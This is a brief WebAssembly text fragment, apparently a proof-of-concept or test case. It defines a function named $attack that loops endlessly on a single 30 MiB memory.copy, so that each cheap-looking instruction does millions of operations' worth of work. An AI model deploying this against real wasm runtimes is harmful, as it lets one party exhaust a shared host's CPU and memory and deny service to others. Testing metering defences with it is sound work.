;; Copies 30 MiB again and again: one instruction is the work of millions.
(memory (export "memory") 980)
(func $attack (type $transform)
  (loop (memory.copy (i32.const 32000000) (i32.const 0) (i32.const 31457280)) (br 0))
  unreachable)
